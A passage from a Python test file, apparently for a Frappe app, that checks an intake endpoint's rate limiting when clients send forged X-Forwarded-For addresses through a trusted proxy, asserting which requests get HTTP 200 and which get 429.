		["198.51.100.1", "6.6.6.6, 198.51.100.1", "198.51.100.2", "198.51.100.1, 198.51.100.2"],
	)
	assert statuses == [200, 429, 200, 429]


def test_frappes_rate_limit_stops_a_flood_from_one_address_as_frappe_sees_it(
	guest, base_url, intake_open, doctor_email, one_trusted_proxy
):
	"""Frappe's rate limit on the endpoint counts, after the app's allowance by the trusted address, by the
	address Frappe takes for the client (the first X-Forwarded-For entry), up to a few times the allowance."""
	from lnb_casework.api.intake import FLOOD_LIMIT_FACTOR

	intake_open.intake_rate_limit = 1
	intake_open.save(ignore_permissions=True)
	frappe.db.commit()
	# each through a new address the trusted proxy saw (the app's allowance is not met), all claiming one
	clients = [f"192.0.2.99, 198.51.100.{number}" for number in range(1, FLOOD_LIMIT_FACTOR + 2)]
	statuses = rate_limited_posts(guest, one_trusted_proxy, doctor_email, clients)
	assert statuses == [200] * FLOOD_LIMIT_FACTOR + [429]
